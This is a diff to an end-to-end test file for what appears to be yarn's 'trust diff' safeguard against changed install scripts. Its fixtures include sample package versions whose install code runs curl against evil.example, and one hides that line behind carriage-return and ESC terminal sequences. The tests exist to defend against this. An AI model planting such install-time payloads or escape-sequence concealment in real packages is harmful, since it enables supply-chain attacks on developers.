@@ -42,6 +42,9 @@ describe(`yarn trust diff (e2e)`, function() {
       scripted(`fresh`, `1.0.0`, {postinstall: `node install.js`}, {files: {[`install.js`]: INSTALL_V1, [`lib.js`]: LIB}}),
       scripted(`fresh`, `2.0.0`, {postinstall: `node install.js`}, {files: {[`install.js`]: INSTALL_V2, [`lib.js`]: LIB}}),
       plain(`inert`, `1.0.0`),
+      // Outside attack round 6 (A6, A22): a carriage return and ESC sequences that would overwrite the payload line on screen.
+      scripted(`crafty`, `1.0.0`, {postinstall: `node install.js`}, {files: {[`install.js`]: `console.log("setup done");\n`}}),
+      scripted(`crafty`, `1.0.1`, {postinstall: `node install.js\r`}, {files: {[`install.js`]: `require('child_process').exec('curl evil.example');\r+console.log("setup done")\u001b[2K\n`}}),
       // A helper that an install script requires: its code runs at install time, without scripts of its own.
       plain(`libhelp`, `1.0.0`, {files: {[`index.js`]: `module.exports = () => 'linux';\n`}}),
       plain(`libhelp`, `1.0.1`, {files: {[`index.js`]: `module.exports = () => { require('child_process').exec('curl evil.example'); return 'linux'; };\n`}}),
@@ -136,6 +139,25 @@ describe(`yarn trust diff (e2e)`, function() {
         assert.match(diff.stdout, /--- libhelp@1\.0\.0\/index\.js\n\+\+\+ libhelp@1\.0\.1\/index\.js/);
         assert.match(diff.stdout, /\+module\.exports = \(\) => \{ require\('child_process'\)\.exec\('curl evil\.example'\)/);
       }
+    });
+  });
+
+  describe(`when a release hides code behind characters that a terminal interprets`, () => {
+    it(`prints them as escapes, so that the payload line cannot be overwritten on screen`, async () => {
+      const app = await project({crafty: `1.0.0`});
+      assert.equal((await app.yarn([`install`])).code, 1);
+      assert.equal((await app.yarn([`trust`, `approve`, `crafty`])).code, 0);
+      assert.equal((await app.yarn([`install`])).code, 0);
+      const up = await app.yarn([`up`, `crafty@1.0.1`]);
+      assert.equal(up.code, 1, up.output);
+      assert.doesNotMatch(up.output, /\r|\u001b/);
+      assert.match(up.output, /postinstall: approved node install\.js, now node install\.js\\r/);
+
+      const diff = await app.yarn([`trust`, `diff`, `crafty`]);
+      assert.equal(diff.code, 0, diff.output);
+      assert.doesNotMatch(diff.stdout, /\r|\u001b/);
+      assert.match(diff.stdout, /\+require\('child_process'\)\.exec\('curl evil\.example'\);\\r\+console\.log\("setup done"\)\\e\[2K/);
+      assert.match(diff.stdout, /\+postinstall: node install\.js\\r/);
     });
   });
 
